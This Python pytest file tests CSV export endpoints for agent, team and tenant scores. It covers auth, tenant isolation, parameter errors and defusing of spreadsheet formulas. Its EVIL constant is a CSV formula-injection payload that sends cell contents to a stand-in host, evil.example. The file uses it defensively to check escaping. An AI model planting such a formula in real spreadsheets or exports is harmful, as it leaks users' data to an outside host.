"""CSV exports (SPEC §6): `GET /exports/{agent-scores|team-scores|tenant-metrics}.csv` answer,
cell for cell, what agentScores/teamScores/tenantMetrics answer for the same period, behind
the same bearer token, `read` scope and tenant; text cells a spreadsheet would run as a
formula are defused; bad parameters are a 400 with a message."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any

import pytest
from starlette.testclient import TestClient

from domain.ports import TenantProfile
from infra import admin
from infra.bootstrap import Container
from tests.factories import agent_profile
from tests.integration.test_score_history import (
    ACTIVATE,
    CREATE,
    MODEL,
    drain,
    year_of_tickets,
)
from tests.support.api import access_token, api_client, graphql_data
from tests.support.derive import apply_and_settle

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
SCORED = "total metrics { key value sampleSize expected adjustedRatio adjustedDifference }"
AGENT_SCORES = f"""query($p: PeriodInput!, $t: ID) {{ agentScores(period: $p, teamId: $t) {{
  agent {{ id externalId name }} {SCORED} }} }}"""
TEAM_SCORES = (
    f"query($p: PeriodInput!) {{ teamScores(period: $p) {{ team {{ id name }} {SCORED} }} }}"
)
TENANT_METRICS = f"query($p: PeriodInput!) {{ tenantMetrics(period: $p) {{ {SCORED} }} }}"
MONTHS = ["2025-03-01", "2025-04-01", "2025-06-15"]  # 04: nothing stored; 06-15: any day


@dataclass
class Desk:
    client: TestClient
    token: str
    tenant: str
    team: str

    def get(self, path: str, bearer: str | None = None, **params: str) -> Any:
        """GET with this desk's token, another (`bearer`), or none (`bearer=""`)."""
        bearer = self.token if bearer is None else bearer
        headers = {"Authorization": f"Bearer {bearer}"} if bearer else {}
        return self.client.get(path, params=params, headers=headers)

    def csv(self, name: str, **params: str) -> list[dict[str, str]]:
        response = self.get(f"/exports/{name}.csv", **params)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/csv")
        assert response.headers["content-disposition"].startswith("attachment; filename=")
        assert response.text.endswith("\r\n")  # RFC 4180 line ends
        return list(csv.DictReader(io.StringIO(response.text)))


@pytest.fixture
def desk(container: Container, tenant: TenantProfile) -> Desk:
    events = [*year_of_tickets(), agent_profile("a3", team="tier1", minutes=-9e5, name=EVIL)]
    apply_and_settle(container, tenant.id, source="generic", events=events)
    client = api_client(container)
    token = access_token(client, container, tenant.id, scopes=("read", "admin"))
    model_id = graphql_data(client, token, CREATE, model=MODEL)["createKpiModel"]["id"]
    graphql_data(client, token, ACTIVATE, id=model_id, **{"from": "2024-01-01"})
    drain(container)
    with container.read_uow(tenant.id) as uow:
        (team,) = [t.id for t in uow.reads.teams()]
    return Desk(client, token, tenant.id, team)


def number(cell: str) -> float | None:
    return None if cell == "" else float(cell)


def assert_scored(row: dict[str, str], answer: dict[str, Any]) -> None:
    """Every metric and sample size of one CSV row equals the GraphQL answer."""
    assert number(row["total"]) == answer["total"]
    metric_columns = [c for c in row if c != "total" and c.endswith("_sample_size")]
    assert [c.removesuffix("_sample_size") for c in metric_columns] == [
        m["key"] for m in answer["metrics"]
    ]
    for m in answer["metrics"]:
        assert number(row[m["key"]]) == m["value"], m["key"]
        assert int(row[f"{m['key']}_sample_size"]) == m["sampleSize"], m["key"]
        if f"{m['key']}_expected" in row:  # case mix (SPEC §8), agents and teams
            adjusted = m["adjustedDifference"] if m["adjustedRatio"] is None else m["adjustedRatio"]
            assert number(row[f"{m['key']}_expected"]) == m["expected"], m["key"]
            assert number(row[f"{m['key']}_adjusted"]) == adjusted, m["key"]


def test_every_cell_equals_the_graphql_answer_for_the_period(desk: Desk) -> None:
    compared = 0
    for start in MONTHS:
        period = {"grain": "MONTH", "start": start}
        agents = graphql_data(desk.client, desk.token, AGENT_SCORES, p=period)["agentScores"]
        rows = desk.csv("agent-scores", grain="MONTH", start=start)
        assert [r["agent_id"] for r in rows] == [a["agent"]["id"] for a in agents]  # same order
        for row, answer in zip(rows, agents, strict=True):
            assert row["agent_external_id"] == answer["agent"]["externalId"]
            if answer["agent"]["name"] != EVIL:
                assert row["agent_name"] == answer["agent"]["name"]
            assert_scored(row, answer)
            compared += answer["total"] is not None
        teams = graphql_data(desk.client, desk.token, TEAM_SCORES, p=period)["teamScores"]
        team_rows = desk.csv("team-scores", grain="MONTH", start=start)
        assert [(r["team_id"], r["team_name"]) for r in team_rows] == [
            (t["team"]["id"], t["team"]["name"]) for t in teams
        ]
        for row, answer in zip(team_rows, teams, strict=True):
            assert_scored(row, answer)
        whole = graphql_data(desk.client, desk.token, TENANT_METRICS, p=period)["tenantMetrics"]
        (tenant_row,) = desk.csv("tenant-metrics", grain="MONTH", start=start)
        assert tenant_row["tenant_id"] == desk.tenant
        assert_scored(tenant_row, whole)
    assert compared >= 2  # some totals were numbers, not only empty cells


def test_the_header_is_stable_and_team_id_narrows_agents(desk: Desk) -> None:
    response = desk.get("/exports/agent-scores.csv", grain="WEEK", start="2025-03-12")
    header = next(csv.reader(io.StringIO(response.text)))
    assert header[:4] == ["agent_id", "agent_external_id", "agent_name", "total"]
    assert header[4:6] == [header[4], f"{header[4]}_sample_size"]
    at = header.index("resolution_time")
    assert header[at : at + 4] == [
        "resolution_time",
        "resolution_time_sample_size",
        "resolution_time_expected",
        "resolution_time_adjusted",
    ]
    assert 'filename="agent-scores-week-2025-03-10.csv"' in response.headers["content-disposition"]
    period = {"grain": "MONTH", "start": "2025-03-01"}
    mine = graphql_data(desk.client, desk.token, AGENT_SCORES, p=period, t=desk.team)
    rows = desk.csv("agent-scores", grain="MONTH", start="2025-03-01", teamId=desk.team)
    assert [r["agent_id"] for r in rows] == [a["agent"]["id"] for a in mine["agentScores"]]
    assert desk.csv("agent-scores", grain="MONTH", start="2025-03-01", teamId="nope") == []


def test_a_formula_in_a_name_is_defused(desk: Desk) -> None:
    rows = desk.csv("agent-scores", grain="MONTH", start="2025-03-01")
    (evil,) = [r for r in rows if r["agent_external_id"] == "a3"]
    assert evil["agent_name"] == "'" + EVIL  # quoted and escaped by csv, prefixed by us
    assert all(not r["agent_name"].startswith(("=", "+", "-", "@")) for r in rows)


def test_no_token_is_401_and_no_read_scope_is_403(
    desk: Desk, container: Container, tenant: TenantProfile
) -> None:
    for name in ("agent-scores", "team-scores", "tenant-metrics"):
        path = f"/exports/{name}.csv"
        missing = desk.get(path, bearer="", grain="MONTH", start="2025-03-01")
        assert missing.status_code == 401
        assert missing.headers["www-authenticate"].startswith("Bearer")
        forged = desk.get(path, bearer="not.a.jwt", grain="MONTH", start="2025-03-01")
        assert forged.status_code == 401
        assert 'error="invalid_token"' in forged.headers["www-authenticate"]
    admin_only = access_token(desk.client, container, tenant.id, scopes=("admin",))
    refused = desk.get(
        "/exports/team-scores.csv", bearer=admin_only, grain="MONTH", start="2025-03-01"
    )
    assert refused.status_code == 403
    assert "read" in refused.text and "insufficient_scope" in refused.headers["www-authenticate"]


def test_a_token_of_tenant_a_never_sees_a_row_of_tenant_b(desk: Desk, container: Container) -> None:
    other = admin.create_tenant(container, slug="other-co", name="Other", timezone="UTC")
    events = [agent_profile("b1", team="b-team", minutes=-9e5, name="Agent of B")]
    apply_and_settle(container, other.id, source="generic", events=events)
    drain(container)
    with container.read_uow(other.id) as uow:
        b_agents = {a.id for a in uow.reads.agents()}
        b_teams = {t.id for t in uow.reads.teams()}
    assert b_agents and b_teams
    agents = desk.csv("agent-scores", grain="MONTH", start="2025-03-01")
    assert not b_agents & {r["agent_id"] for r in agents}
    assert "Agent of B" not in {r["agent_name"] for r in agents}
    teams = desk.csv("team-scores", grain="MONTH", start="2025-03-01")
    assert {r["team_id"] for r in teams} == {desk.team}
    assert not b_agents & {r["agent_id"] for r in agents}
    (whole,) = desk.csv("tenant-metrics", grain="MONTH", start="2025-03-01")
    assert whole["tenant_id"] == desk.tenant != other.id
    b_team = next(iter(b_teams))
    assert desk.csv("agent-scores", grain="MONTH", start="2025-03-01", teamId=b_team) == []


@pytest.mark.parametrize(
    ("path", "params", "status", "says"),
    [
        ("/exports/agent-scores.csv", {"grain": "YEAR", "start": "2025-03-01"}, 400, "grain"),
        ("/exports/agent-scores.csv", {"start": "2025-03-01"}, 400, "grain"),
        ("/exports/agent-scores.csv", {"grain": "MONTH", "start": "2025-13-01"}, 400, "start"),
        ("/exports/agent-scores.csv", {"grain": "MONTH"}, 400, "start"),
        ("/exports/team-scores.csv", {"grain": "DAY", "start": "x"}, 400, "start"),
        (
            "/exports/team-scores.csv",
            {"grain": "DAY", "start": "2025-03-01", "teamId": "t"},
            400,
            "teamId",
        ),
        ("/exports/scores.csv", {"grain": "MONTH", "start": "2025-03-01"}, 404, "agent-scores"),
    ],
)
def test_bad_parameters_are_answered_with_a_message(
    desk: Desk, path: str, params: dict[str, str], status: int, says: str
) -> None:
    response = desk.get(path, **params)
    assert (response.status_code, says in response.text) == (status, True), response.text
